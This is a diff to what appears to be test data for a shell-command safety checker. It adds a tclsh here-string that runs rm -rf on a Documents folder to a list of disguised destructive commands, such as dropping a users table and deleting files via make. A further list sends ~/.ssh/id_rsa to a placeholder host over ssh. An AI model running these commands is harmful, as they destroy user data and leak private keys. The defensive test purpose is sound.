@@ -76,6 +76,7 @@ STATEMENTS = [
     "psql -f <(echo 'drop table users') db",
     "sqlite3 -init <(echo 'drop table users') x.db",
     "make -f <(printf 'all: ; rm -rf ~/Documents')",
+    "tclsh <<< 'exec rm -rf /home/u/Documents'",
     "make --file=/dev/fd/3 3< <(printf 'all: ; rm -rf ~/Documents')",
 ]
 SENT = ["ssh -P host.example.net < ~/.ssh/id_rsa", "ssh -P tag host.example.net < ~/.ssh/id_rsa"]
